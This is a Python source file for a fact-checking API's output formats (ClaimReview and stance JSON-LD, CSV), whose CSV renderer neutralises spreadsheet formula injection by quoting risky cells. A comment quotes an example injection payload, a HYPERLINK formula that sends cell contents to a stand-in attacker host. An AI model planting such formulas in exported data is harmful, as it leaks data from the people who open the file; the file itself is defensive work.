"""The API's formats besides JSON: ClaimReview and stances as JSON-LD, CSV lists."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import Any

from rest_framework.renderers import JSONRenderer
from rest_framework_csv.renderers import CSVRenderer


class ClaimReviewRenderer(JSONRenderer):
    """A claim as schema.org ClaimReview (``?format=claimreview``)."""

    media_type = "application/ld+json"
    format = "claimreview"


class StancesJSONLDRenderer(JSONRenderer):
    """A claim with every actor's stance, as JSON-LD (``?format=jsonld``)."""

    media_type = "application/ld+json"
    format = "jsonld"


# CSV injection (OWASP, "CSV Injection"): a spreadsheet opening the file runs a cell that
# starts with one of these as a formula. A claim's text, a quote or an actor's name is typed
# by a reporter or imported from someone else's file, so any of them may be
# ``=HYPERLINK("https://evil.example/?"&A1, "Click")``.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number written out ("-12.5", "+3", "-4.1e3": a coordinate, a decimal the API gives as text)
# is data a spreadsheet reads as a number, never a formula: it stays as it is, so a negative
# latitude still sorts and sums.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` safe to open in a spreadsheet: a text that starts like a formula gets a leading
    single quote, which spreadsheets read as "this is text" and do not show (OWASP's advice).
    ``"=HYPERLINK(…)"`` → ``"'=HYPERLINK(…)"``, ``"-"`` → ``"'-"``, ``"@SUM(A1)"`` →
    ``"'@SUM(A1)"``; ``"-12.5"``, ``-3``, ``None`` and ``True`` unchanged.

    Only text is looked at: a number, a boolean or an empty cell cannot be a formula. A reader
    that wants the exact text back drops one leading quote from a cell that starts with
    ``'=``, ``'+``, ``'-``, ``'@``, a quote and a tab, or a quote and a carriage return."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class FlatCSVRenderer(CSVRenderer):
    """A list as CSV, one row per object, columns in the order the view gives.

    Every CSV the API serves is written here, and every cell of it (the header too) goes
    through ``neutralise``: the one place that keeps formulas out of a newsroom's spreadsheet."""

    media_type = "text/csv"
    format = "csv"

    def tablize(self, data: Any, header: Any = None, labels: Any = None) -> Iterator[list[Any]]:
        rows: Iterable[list[Any]] = super().tablize(data, header=header, labels=labels)
        for row in rows:
            yield [neutralise(cell) for cell in row]
